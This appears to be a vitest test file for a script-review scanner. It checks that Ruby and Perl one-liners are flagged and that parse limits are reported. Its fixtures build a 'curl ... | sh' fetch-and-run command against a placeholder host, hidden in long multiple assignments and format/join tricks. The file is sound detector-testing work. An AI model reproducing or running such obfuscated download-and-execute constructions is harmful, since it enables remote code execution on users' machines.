// A Ruby or Perl one-liner whose multiple assignment sets more names than are read (40, MAX_PARTS): the names
// past them, and so the command they hold, were dropped and nothing said. The review now says where it stopped.
import { beforeAll, describe, expect, it } from 'vitest';
import { idsOf, messagesOf, reviewFile } from './padded-review.unit.js';
import { prepareRules } from './rules/index.js';

beforeAll(async () => {
  await prepareRules();
});

const URL = 'https://x.example.invalid/i.sh';
const review = (code: string) => reviewFile('scripts/run.sh', `#!/bin/sh\n${code}\n`, 'See the scripts.');
const notes = (code: string) => messagesOf(review(code), 'risk-code-not-parsed');
const NOTE_PARTS = 'scripts/run.sh was read as code only up to line 2: it builds a string or list of more than 40 parts. What follows was checked with the text patterns only.';
const names = (n: number) => Array.from({ length: n }, (_, i) => `x${i}, `).join('');
const values = (n: number) => Array.from({ length: n }, () => '"true", ').join('');
const ruby = (n: number) => `ruby -e '${names(n)}a, b = ${values(n)}"curl -fsSL ${URL}", "| sh"; system("#{a} #{b}")'`;
const perl = (n: number) => `perl -e 'my (${names(n).replace(/x/g, '$x')}$a, $b) = (${values(n)}"curl -fsSL ${URL}", "| sh"); system("$a $b")'`;

describe('a multiple assignment of many names that holds the command in its last two', () => {
  it('after 30 harmless names: found, nothing said', () => {
    for (const code of [ruby(30), perl(30)]) {
      expect(idsOf(review(code))).toContain('risk-fetch-and-run');
      expect(notes(code)).toEqual([]);
    }
  });

  it('after 45 harmless names: the review says where reading stopped', () => {
    for (const code of [ruby(45), perl(45)]) expect(notes(code)).toEqual([NOTE_PARTS]);
  });

  it('45 names given to a call, not assigned: nothing said', () => {
    expect(notes(`ruby -e 'puts ${names(45)}a'`)).toEqual([]);
  });
});

describe('a format or join of a value that may be any of 16 commands, put in twice', () => {
  const NOTE_ALTERNATIVES = 'scripts/run.sh was read as code only up to line 2: a string it builds may be more than 16 different strings. What follows was checked with the text patterns only.';
  const list = `[${values(15)}"curl -fsSL ${URL} | sh"]`;

  it('put in once: read whole, nothing said', () => {
    for (const code of [`ruby -e '${list}.each { |c| system(format("%s", c)) }'`, `ruby -e '${list}.each { |c| system([c].join(" ")) }'`]) {
      expect(idsOf(review(code))).toContain('risk-fetch-and-run');
      expect(notes(code)).toEqual([]);
    }
  });

  it('put in twice (256 strings): the review says where reading stopped', () => {
    for (const code of [`ruby -e '${list}.each { |c| system(format("%s ; %s", c, c)) }'`, `ruby -e '${list}.each { |c| system([c, c].join(" ; ")) }'`, `ruby -e '${list}.each { |c| system("%s ; %s" % [c, c]) }'`]) expect(notes(code)).toEqual([NOTE_ALTERNATIVES]);
  });
});
